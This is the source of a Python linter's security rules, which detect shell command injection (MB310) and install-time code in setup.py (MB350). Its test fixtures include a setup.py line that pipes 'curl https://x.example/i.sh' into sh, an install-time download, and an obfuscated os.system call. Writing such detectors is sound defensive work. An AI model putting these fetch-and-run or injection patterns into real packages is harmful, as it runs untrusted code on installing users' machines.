"""Security rules on the syntax tree: commands and install-time code (MB310, MB350).

Shell command lines built at run time (command injection), and a
``setup.py`` that runs commands, downloads, or replaces setuptools commands
when the distribution is installed.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import ClassVar

import libcst as cst

from mbcheck.checks.security.calls import (
    classify_call,
    first_argument,
    is_false,
    is_true,
    keyword_value,
)
from mbcheck.checks.security.classify import short_name
from mbcheck.checks.security.tables import tables
from mbcheck.checks.security.values import fold_string, is_constant, resolve, single_value
from mbcheck.model import Category, Confidence, Severity
from mbcheck.pyfile.traverse import EnclosingFunctions, FileContext, SourceRule, child_nodes
from mbcheck.rules.base import Invalid, Valid

_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "cmd", "cmd.exe", "powershell",
                     "powershell.exe", "pwsh"})
#: calls whose first argument is an argument list (``subprocess.run([...])``)
_EXEC_STARTERS = frozenset({"subprocess.run", "subprocess.Popen", "subprocess.call", "subprocess.check_call",
                            "subprocess.check_output"})


class ShellCommand(EnclosingFunctions, SourceRule):
    """Runs a shell command line built at run time.

    Covers `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`
    and `subprocess.run/Popen/call/check_call/check_output(..., shell=True)` whose command is
    not a constant, and a shell started explicitly with a computed script
    (`subprocess.run(["sh", "-c", cmd])`, `asyncio.create_subprocess_exec("bash", "-c", cmd)`).
    Commands assembled only from `shlex.quote(...)` pieces are a warning, and so is an
    argument list run with a `shell=` decided at run time (a setting, off by default).
    Why: the shell interprets quotes, `;`, `$(...)` and globs in the string; any
    piece that comes from a file name, a config value or user input can run an
    arbitrary command with the user's rights (command injection).
    Instead: pass an argument list without a shell: `subprocess.run(["git", "log", path], check=True)`.
    """

    code = "MB310"
    name = "shell-command-from-data"
    category = Category.SECURITY
    severity = Severity.ERROR
    other_severities: ClassVar[Mapping[Severity, str]] = {
        Severity.WARNING: "every piece of the command built at run time is shlex-quoted, or the command is an "
                          "argument list and `shell=` is decided at run time",
    }
    confidence = Confidence.HIGH
    VALID = (
        Valid("import subprocess\n\ndef log(path):\n    subprocess.run(['git', 'log', path], check=True)\n"),
        Valid("import os\nos.system('clear')\n"),
        Valid("import subprocess\nsubprocess.run('ls -l', shell=True)\n"),
    )
    INVALID = (
        Invalid("import subprocess as sp\n\ndef run(cmd):\n    sp.Popen(cmd, shell=True)\n", line=4),
        Invalid("from os import system\n\ndef greet(name):\n    system('echo ' + name)\n", line=4),
        Invalid("def f(x):\n    getattr(__import__('o' + 's'), 'system')(f'ls {x}')\n", line=2),
        Invalid("import subprocess\n\ndef run(script):\n    subprocess.run(['/bin/sh', '-c', script], check=True)\n",
                line=4),
        Invalid("import subprocess\n\ndef render(config, src):\n    argv = ['mmdc', '-i', src]\n"
                "    subprocess.Popen(argv, shell=config.use_shell)\n", line=5),
    )

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if name is None:
            return
        mode = tables().shell_calls.get(name)
        if mode is None:
            self._explicit_shell(node, name)
            return
        confidence = Confidence.HIGH
        if mode == "keyword":
            shell = keyword_value(node, "shell")
            if shell is None or is_false(shell):
                self._explicit_shell(node, name)
                return
            if not is_true(shell):
                confidence = Confidence.MEDIUM
        command = first_argument(node, "args", "cmd", "command")
        if command is None or is_constant(self.ctx, command):
            return
        if mode == "keyword" and not self._shell_always(keyword_value(node, "shell")) and self._argument_list(command):
            self.report(node, f"`{short_name(name)}` runs an argument list with `shell=` decided at run time: if "
                        "it is ever true, the first item runs as a shell command line; pass shell=False",
                        severity=Severity.WARNING, confidence=Confidence.MEDIUM)
            return
        dynamic = list(self._dynamic_parts(command))
        quoted = bool(dynamic) and all(
            type(part) is cst.Call and resolve(self.ctx, part.func) in ("shlex.quote", "shlex.join")
            for part in dynamic
        )
        if quoted:
            self.report(node, f"`{short_name(name)}` runs a shell command assembled at run time (its pieces are "
                        "shlex-quoted); prefer an argument list without a shell",
                        severity=Severity.WARNING, confidence=Confidence.MEDIUM)
            return
        self.report(node, f"`{short_name(name)}` runs a shell command built at run time: command injection; "
                    "pass an argument list without shell=True", confidence=confidence)

    def _shell_always(self, shell: cst.BaseExpression | None) -> bool:
        """Whether ``shell=`` is true as written, or a name the file binds once to a true literal."""
        if is_true(shell):
            return True
        if type(shell) is cst.Name:
            return is_true(single_value(self.ctx, shell.value, lookups_only=False))
        return False

    def _argument_list(self, command: cst.BaseExpression) -> bool:
        """Whether a command is an argument list: a list or tuple display, or a local of the
        enclosing function that is only ever bound to one, to ``shlex.split(...)`` or ``list(...)``,
        or extended with one (``argv += [...]``)."""
        if (type(command) is cst.List or type(command) is cst.Tuple or type(command) is cst.ListComp):
            return True
        if type(command) is not cst.Name or self.function is None:
            return False
        function = self.function
        if any(p.name.value == command.value for p in (*function.params.params, *function.params.posonly_params,
                                                       *function.params.kwonly_params)):
            return False
        found = False
        pending: list[cst.CSTNode] = [function.body]
        while pending:
            current = pending.pop()
            pending.extend(child_nodes(current))
            value: cst.BaseExpression | None = None
            if type(current) is cst.Assign and any(
                    type(t.target) is cst.Name and t.target.value == command.value for t in current.targets):
                value = current.value
            elif (type(current) is cst.AnnAssign or type(current) is cst.AugAssign) and type(current.target) is cst.Name \
                    and current.target.value == command.value:
                value = current.value
                if value is None:
                    continue
            elif isinstance(current, (cst.For, cst.NamedExpr, cst.AsName, cst.Global, cst.Nonlocal)):
                if any(type(n) is cst.Name and n.value == command.value for n in _nodes(current)
                       if not isinstance(current, (cst.For,)) or _within(n, current.target)):
                    return False
                continue
            else:
                continue
            if not ((type(value) is cst.List or type(value) is cst.Tuple or type(value) is cst.ListComp) or (
                    type(value) is cst.Call and (resolve(self.ctx, value.func) in ("shlex.split", "builtins.list")
                                                     or (type(value.func) is cst.Name
                                                         and value.func.value == "list")))):
                return False
            found = True
        return found

    def _explicit_shell(self, node: cst.Call, name: str) -> None:
        """``subprocess.run(["sh", "-c", script])``: a shell started by hand."""
        if name == "asyncio.create_subprocess_exec":
            argv = [a.value for a in node.args if a.keyword is None and not a.star]
        elif name in tables().shell_calls or name in _EXEC_STARTERS:
            command = first_argument(node, "args")
            if (type(command) is not cst.List and type(command) is not cst.Tuple):
                return
            argv = [e.value for e in command.elements if type(e) is cst.Element]
        else:
            return
        if len(argv) < 3:
            return
        program = fold_string(self.ctx, argv[0]) or ""
        flag = fold_string(self.ctx, argv[1]) or ""
        if program.rsplit("/", 1)[-1].rsplit("\\", 1)[-1].lower() not in _SHELLS:
            return
        if flag.lower() not in ("-c", "/c", "-command", "-lc"):
            return
        if is_constant(self.ctx, argv[2]):
            return
        self.report(node, f"`{short_name(name)}` starts `{program} {flag}` with a script built at run time: "
                    "command injection; run the program directly with an argument list")

    def _dynamic_parts(self, expr: cst.BaseExpression) -> Iterator[cst.BaseExpression]:
        if is_constant(self.ctx, expr):
            return
        if type(expr) is cst.BinaryOperation and (type(expr.operator) is cst.Add or type(expr.operator) is cst.Modulo):
            yield from self._dynamic_parts(expr.left)
            right = expr.right
            if type(expr.operator) is cst.Modulo and type(right) is cst.Tuple:
                for element in right.elements:
                    yield from self._dynamic_parts(element.value)
            else:
                yield from self._dynamic_parts(right)
        elif type(expr) is cst.FormattedString:
            for part in expr.parts:
                if type(part) is cst.FormattedStringExpression:
                    yield from self._dynamic_parts(part.expression)
        elif (type(expr) is cst.List or type(expr) is cst.Tuple):
            for element in expr.elements:
                yield from self._dynamic_parts(element.value)
        elif (
            type(expr) is cst.Call
            and type(expr.func) is cst.Attribute
            and expr.func.attr.value == "format"
            and is_constant(self.ctx, expr.func.value)
        ):
            for arg in expr.args:
                yield from self._dynamic_parts(arg.value)
        else:
            yield expr


def _nodes(node: cst.CSTNode) -> list[cst.CSTNode]:
    found: list[cst.CSTNode] = []
    pending: list[cst.CSTNode] = [node]
    while pending and len(found) < 2000:
        current = pending.pop()
        found.append(current)
        pending.extend(child_nodes(current))
    return found


def _within(node: cst.CSTNode, root: cst.CSTNode) -> bool:
    return any(n is node for n in _nodes(root))


_SETUP_CALLS = frozenset({"setuptools.setup", "distutils.core.setup"})
_COMMAND_BASES = ("setuptools.command.", "distutils.command.", "setuptools.Command", "distutils.cmd.Command",
                  "wheel.bdist_wheel.", "setuptools.command")


class InstallTimeCode(SourceRule):
    """`setup.py` runs commands, downloads, or replaces setuptools commands (`cmdclass`).

    Reported in a `setup.py` at the root of a plugin or bottle distribution:
    subprocess and shell calls, network access, `cmdclass=` in `setup()`, and
    classes derived from setuptools/distutils commands.
    Why: `pip install` runs `setup.py` with the installing user's rights before
    anyone has looked at the result, and before MilkBottle's loader ever sees the
    plugin: install-time code escapes every load-time check.
    Instead: a declarative `pyproject.toml` (`[project]` metadata, a standard build
    backend); generate files at build time in CI, not on the user's machine.
    """

    code = "MB350"
    name = "install-time-code"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("from setuptools import setup\n\nsetup(name='hello', version='1.0', packages=['hello'])\n",
              path="setup.py"),
    )
    INVALID = (
        Invalid("import os\nfrom setuptools import setup\nos.system('curl https://x.example/i.sh | sh')\n"
                "setup(name='x')\n", path="setup.py", line=3),
        Invalid("from setuptools import setup\nfrom setuptools.command.install import install\n\n"
                "class Hook(install):\n    def run(self):\n        install.run(self)\n\n"
                "setup(name='x', cmdclass={'install': Hook})\n", path="setup.py", line=4),
        Invalid("import urllib.request\nurllib.request.urlretrieve('https://x.example/blob', 'blob')\n",
                path="setup.py", line=2),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self.active = ctx.path == "setup.py"
        if not self.active:
            self.idle = frozenset({"visit_Call", "visit_ClassDef"})

    def visit_Call(self, node: cst.Call) -> None:
        if not self.active:
            return
        name = resolve(self.ctx, node.func)
        if name in _SETUP_CALLS and keyword_value(node, "cmdclass") is not None:
            self.report(node, "`setup(cmdclass=...)` replaces setuptools commands with code that runs at install time")
            return
        for use in classify_call(self.ctx, node, name):
            if use.permission == "subprocess":
                self.report(node, f"`{short_name(use.via)}` runs a command when the distribution is installed")
                return
            if use.permission == "network":
                self.report(node, f"`{use.via}` uses the network when the distribution is installed")
                return

    def visit_ClassDef(self, node: cst.ClassDef) -> None:
        if not self.active:
            return
        for base in node.bases:
            name = resolve(self.ctx, base.value)
            if name is not None and name.startswith(_COMMAND_BASES):
                self.report(node, f"`{node.name.value}` overrides the setuptools command `{name}` "
                            "(runs at install time)")
                return


__all__ = [
    "InstallTimeCode",
    "ShellCommand",
]
